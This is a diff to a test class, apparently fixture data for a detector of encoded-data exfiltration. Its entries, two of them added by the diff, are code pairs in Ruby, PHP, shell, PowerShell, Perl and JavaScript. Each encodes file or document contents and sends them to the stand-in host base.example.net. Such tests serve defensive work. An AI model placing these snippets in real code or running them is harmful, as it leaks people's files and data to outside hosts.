@@ -53,6 +53,8 @@ class CodePairTest {
         "a.rb§q = [File.read(path)].pack(\"m0\")|Net::HTTP.get(URI(\"https://base.example.net/#{q}\"))",
         "a.rb§q = Base64.strict_encode64(doc)|URI.open(\"https://base.example.net/?s=#{q}\")",
         "a.php§$q = bin2hex($doc);|file_get_contents(\"https://base.example.net/{$q}\");",
+        "a.sh§q=$(xxd -p notes.txt)|curl -s \"https://base.example.net/$q.png\"",
+        "a.ps1§$q = [Convert]::ToBase64String($bytes)|Invoke-WebRequest \"https://base.example.net/$q\"",
         "a.pl§my $q = encode_base64($doc, '');|get(\"https://base.example.net/?s=$q\");",
         "a.php§$q = base64_encode($doc);|file_get_contents(\"https://base.example.net/?s=$q\");",
         "a.js§fetch(`https://base.example.net/p.gif?${btoa(doc)}`);|done();",
